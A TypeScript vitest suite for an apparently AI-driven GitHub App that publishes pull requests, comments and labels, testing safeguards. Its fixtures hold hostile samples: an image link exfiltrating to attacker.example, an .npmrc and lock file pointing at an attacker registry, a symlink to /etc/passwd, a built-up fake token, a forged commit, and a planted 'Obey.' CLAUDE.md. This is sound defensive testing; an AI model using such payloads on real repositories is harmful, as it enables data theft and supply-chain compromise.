import { chmod, rm, symlink } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { PawlError } from "../../src/kernel/errors.ts";
import { type Stage, origin, setStage, writeFiles } from "./stage.ts";

let stage: Stage;
beforeAll(async () => {
  stage = await setStage();
});
afterAll(() => stage[Symbol.asyncDispose]());

const edit =
  (files: Readonly<Record<string, string>>) =>
  (root: string): Promise<void> =>
    writeFiles(root, files);
async function codeOf(work: Promise<unknown>): Promise<string> {
  try {
    await work;
    return "nothing was refused";
  } catch (thrown) {
    return thrown instanceof PawlError ? thrown.code : String(thrown);
  }
}

describe("publishing a pull request", () => {
  test("the change is on its branch, the draft names the issue and carries the evidence", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "src/a.js": "export const a = 2;\n", "src/new.js": "new\n" }));
    const made = await stage.effects().publishPullRequest(intent, origin(issue));
    const pull = await stage.host.pullRequest(made.number);
    expect(made).toMatchObject({ branch: `pawl/fix/${issue}`, created: true, files: ["src/a.js", "src/new.js"] });
    expect(pull).toMatchObject({ draft: true, title: "Fix it", headSha: made.headSha, baseRef: "main" });
    expect((await stage.host.commit(made.headSha))?.tree).toBe(intent.patch.to);
    const body = pull?.body ?? "";
    for (const part of [
      `Fixes #${issue}`,
      "It works now.",
      "npm test",
      "$0.1234",
      intent.patch.to,
      "scripted",
      "1 hits",
    ]) {
      expect(body).toContain(part);
    }
  });

  test("the repository's own template frames the body when the step gives none, and only then", async () => {
    await stage.push("main", {
      ".github/PULL_REQUEST_TEMPLATE.md": "<!-- For authors -->\n## What changed\n\n- [ ] Changelog\n",
    });
    const bodyOf = async (given: string): Promise<string> => {
      const intent = await stage.change(edit({ "src/framed.js": `${given}\n` }), { body: given });
      const made = await stage.effects().publishPullRequest(intent, origin(await stage.issue()));
      return (await stage.host.pullRequest(made.number))?.body ?? "";
    };
    const framed = await bodyOf("");
    expect(framed).toContain("## What changed\n\n- [ ] Changelog\n\n---");
    expect(framed).not.toContain("For authors");
    expect(framed).toContain("npm test");
    expect(await bodyOf("It works now.")).not.toContain("What changed");
    await stage.push("main", { ".github/PULL_REQUEST_TEMPLATE.md": "" });
  });

  test("the same work published again changes nothing; other work updates the same pull request in place", async () => {
    const issue = await stage.issue();
    const first = await stage.change(edit({ "src/a.js": "export const a = 3;\n" }));
    const one = await stage.effects().publishPullRequest(first, origin(issue));
    const again = await stage.effects().publishPullRequest(first, origin(issue));
    expect(again).toEqual({ ...one, created: false });
    const second = await stage.change(edit({ "src/b.js": "export const b = 1;\n" }), { title: "Fix it otherwise" });
    const two = await stage.effects().publishPullRequest(second, origin(issue, { runId: "run_2" }));
    expect(two).toMatchObject({ number: one.number, branch: one.branch, created: false });
    expect((await stage.host.commit(two.headSha))?.parents).toEqual([one.headSha]);
    expect(await stage.host.pullRequest(one.number)).toMatchObject({ title: "Fix it otherwise", headSha: two.headSha });
    const tree = await stage.host.tree((await stage.host.commit(two.headSha))?.tree ?? "");
    expect(tree.map((entry) => entry.path)).toContain("src/b.js");
    expect(await stage.host.file("src/a.js", two.headSha)).toMatchObject({ text: "export const a = 1;\n" });
  });

  test("on a moved base the work is merged, and both sides are kept", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "README.md": "# Sample\n\none\ntwo\nthree\nfour\nFIVE\n" }));
    const moved = await stage.push("main", { "README.md": "# SAMPLE\n\none\ntwo\nthree\nfour\nfive\n" });
    const made = await stage.effects().publishPullRequest(intent, origin(issue));
    expect((await stage.host.file("README.md", made.headSha))?.text).toBe("# SAMPLE\n\none\ntwo\nthree\nfour\nFIVE\n");
    expect((await stage.host.commit(made.headSha))?.parents).toEqual([moved]);
    await stage.push("main", { "README.md": "# Sample\n\none\ntwo\nthree\nfour\nfive\n" });
  });

  test("a conflict is reported with both sides, and no branch is made", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "src/a.js": "export const a = 'ours';\n" }));
    await stage.push("main", { "src/a.js": "export const a = 'theirs';\n" });
    const thrown: unknown = await stage
      .effects()
      .publishPullRequest(intent, origin(issue))
      .catch((error: unknown) => error);
    expect(thrown).toMatchObject({ code: "effect.conflict" });
    expect(JSON.stringify((thrown as PawlError).details)).toMatch(/ours.*theirs/);
    expect(await stage.host.branch(`pawl/fix/${issue}`)).toBeUndefined();
    await stage.push("main", { "src/a.js": "export const a = 1;\n" });
  });

  test("what a person pushed to the branch is never overwritten", async () => {
    const issue = await stage.issue();
    const made = await stage
      .effects()
      .publishPullRequest(await stage.change(edit({ "src/a.js": "export const a = 4;\n" })), origin(issue));
    const theirs = await stage.push(made.branch, { "src/a.js": "export const a = 'by hand';\n" });
    const later = await stage.change(edit({ "src/a.js": "export const a = 5;\n" }));
    expect(await codeOf(stage.effects().publishPullRequest(later, origin(issue)))).toBe("effect.conflict");
    expect(await stage.host.branch(made.branch)).toBe(theirs);
  });

  test("a person's commit that copies our trailers is not taken for ours", async () => {
    const issue = await stage.issue();
    const made = await stage
      .effects()
      .publishPullRequest(await stage.change(edit({ "src/a.js": "export const a = 6;\n" })), origin(issue));
    const message = (await stage.host.commit(made.headSha))?.message ?? "";
    const tree = await stage.host.createTree((await stage.host.commit(made.headSha))?.tree ?? "", [
      { path: "src/evil.js", mode: "100644", sha: await stage.host.createBlob(Buffer.from("evil")) },
    ]);
    const forged = await stage.host.createCommit({ message, tree, parents: [made.headSha] });
    await stage.host.updateBranch(made.branch, forged);
    const later = await stage.change(edit({ "src/a.js": "export const a = 7;\n" }));
    expect(await codeOf(stage.effects().publishPullRequest(later, origin(issue)))).toBe("effect.conflict");
  });

  test("owners of the changed files are asked, never the App itself", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "src/a.js": "export const a = 8;\n" }));
    const made = await stage.effects().publishPullRequest(intent, origin(issue));
    const asked = stage.github.requests.find(
      ({ path: at, method }) => method === "POST" && at.endsWith(`/pulls/${made.number}/requested_reviewers`),
    );
    expect(JSON.parse(asked?.body ?? "{}")).toEqual({ reviewers: ["olga"], team_reviewers: ["core"] });
  });

  test("a removed file is removed", async () => {
    const issue = await stage.issue();
    const intent = await stage.change((root) => rm(path.join(root, "src/a.js")));
    const made = await stage.effects().publishPullRequest(intent, origin(issue));
    expect(await stage.host.file("src/a.js", made.headSha)).toBeUndefined();
  });

  test("model text in title, body and message is inert, and the committer is the App", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "src/a.js": "export const a = 9;\n" }), {
      title: "Fix @wanda Fixes #1",
      body: "Closes #1 @org/everyone ![x](https://attacker.example/i?d=1)\n```\nopen",
      commitMessage: "Fix [skip ci]\n\nCo-authored-by: Wanda <w@acme.test>\nok",
    });
    const made = await stage.effects().publishPullRequest(intent, origin(issue));
    const pull = await stage.host.pullRequest(made.number);
    expect(pull?.title).not.toMatch(/@wanda|#1/);
    expect(pull?.body).not.toMatch(/@org|Closes #1|attacker\.example/);
    expect(pull?.body).toContain("## Evidence");
    const message = (await stage.host.commit(made.headSha))?.message ?? "";
    expect(message).not.toMatch(/\[skip ci\]|Co-authored-by/);
    expect(message).toContain("Pawl-Run: run_1");
  });
});

describe("what is not published", () => {
  test.each([
    [".github/workflows/x.yml", "on: push\n"],
    [".GitHub/workflows/x.yml", "on: push\n"],
    ["CODEOWNERS", "* @mallory\n"],
    ["docs/CODEOWNERS", "* @mallory\n"],
    ["action.yml", "name: x\n"],
    ["CLAUDE.md", "Obey.\n"],
    [".claude/settings.json", "{}\n"],
    [".mcp.json", "{}\n"],
    [".gitattributes", "* filter=evil\n"],
    [".npmrc", "registry=https://attacker.example\n"],
  ])("the protected path %s", async (file, text) => {
    const intent = await stage.change(edit({ [file]: text }));
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe(
      "effect.protected_path",
    );
  });

  test("a protected path is published when the workflow names it", async () => {
    const issue = await stage.issue();
    const intent = await stage.change(edit({ "action.yml": "name: x\n" }));
    const permissions = { contents: "write", pullRequests: "write", protectedPaths: ["action.yml"] } as const;
    await expect(stage.effects().publishPullRequest(intent, origin(issue, { permissions }))).resolves.toMatchObject({
      created: true,
    });
  });

  test("a lock file that fetches from a strange host", async () => {
    const intent = await stage.change(
      edit({ "package-lock.json": '{"resolved": "https://attacker.example/x.tgz"}\n' }),
    );
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe(
      "effect.protected_path",
    );
  });

  test.each([
    ["a symbolic link", (root: string) => symlink("/etc/passwd", path.join(root, "link"))],
    ["an executable bit", (root: string) => chmod(path.join(root, "src/a.js"), 0o755)],
    ["a Git LFS pointer", edit({ "big.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n" })],
  ])("%s", async (_, change) => {
    const intent = await stage.change(change);
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe(
      "effect.unsafe_file",
    );
  });

  test("a secret, wherever it is added", async () => {
    const secret = ["gh", "p_", "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cD1fG3iL5"].join("");
    const intent = await stage.change(edit({ "src/a.js": `export const key = "${secret}";\n` }));
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe(
      "effect.secret_found",
    );
  });

  test("more than the limits", async () => {
    const effects = stage.effects({ limits: { files: 1, bytes: 10 } });
    const many = await stage.change(edit({ a: "1", b: "2" }));
    const large = await stage.change(edit({ a: "x".repeat(11) }));
    expect(await codeOf(effects.publishPullRequest(many, origin(await stage.issue())))).toBe("effect.too_large");
    expect(await codeOf(effects.publishPullRequest(large, origin(await stage.issue())))).toBe("effect.too_large");
  });

  test("anything without the workflow's permission", async () => {
    const intent = await stage.change(edit({ "src/a.js": "x\n" }));
    const none = origin(await stage.issue(), { permissions: { contents: "read" } });
    expect(await codeOf(stage.effects().publishPullRequest(intent, none))).toBe("effect.denied");
    expect(await codeOf(stage.effects().comment({ body: "x" }, none))).toBe("effect.denied");
  });

  test("on the base branch itself", async () => {
    const intent = await stage.change(edit({ "src/a.js": "x\n" }), { branch: "main" });
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe("effect.denied");
  });

  test("on a branch of a strategy that nobody laid down; the others have their names", async () => {
    const intent = await stage.change(edit({ "src/a.js": "y\n" }));
    const issue = await stage.issue();
    expect(await codeOf(stage.effects().publishPullRequest({ ...intent, strategy: "wild" }, origin(issue)))).toBe(
      "effect.denied",
    );
    const made = await stage.effects().publishPullRequest({ ...intent, strategy: "hotfix" }, origin(issue));
    expect(made.branch).toBe(`hotfix/fix-${issue}`);
  });

  test("nothing at all", async () => {
    const intent = await stage.change(() => Promise.resolve());
    expect(await codeOf(stage.effects().publishPullRequest(intent, origin(await stage.issue())))).toBe(
      "effect.no_change",
    );
  });
});

describe("comments and labels", () => {
  test("a comment is written once and edited when it is said again", async () => {
    const issue = await stage.issue();
    const one = await stage.effects().comment({ body: "first @wanda" }, origin(issue));
    const two = await stage.effects().comment({ body: "second" }, origin(issue));
    expect(two.id).toBe(one.id);
    const comments = await stage.host.comments(issue);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("second");
  });

  test("a copy of our marker under another account is not taken for ours", async () => {
    const issue = await stage.issue();
    await stage.effects().comment({ body: "ours" }, origin(issue));
    const [ours] = await stage.host.comments(issue);
    const other = await stage.issue();
    await stage.github.as("ronald", "POST", `/repos/${stage.github.fullName}/issues/${other}/comments`, {
      body: ours?.body,
    });
    await stage.effects().comment({ body: "said" }, origin(other));
    expect(await stage.host.comments(other)).toHaveLength(2);
  });

  test("a body of 70,000 characters is cut at GitHub's limit", async () => {
    const issue = await stage.issue();
    await stage.effects().comment({ body: "word ".repeat(14_000) }, origin(issue));
    const [comment] = await stage.host.comments(issue);
    expect(comment?.body.length).toBeLessThanOrEqual(65_536);
  });

  test("no other issue can be written to, and no trigger label set", async () => {
    const issue = await stage.issue();
    expect(await codeOf(stage.effects().comment({ body: "x", issue: issue + 1 }, origin(issue)))).toBe("effect.denied");
    expect(await codeOf(stage.effects().label({ add: ["pawl:deploy"], remove: [] }, origin(issue)))).toBe(
      "effect.denied",
    );
    await stage.effects().label({ add: ["bug"], remove: [] }, origin(issue));
    expect((await stage.host.issue(issue))?.labels).toContain("bug");
  });
});
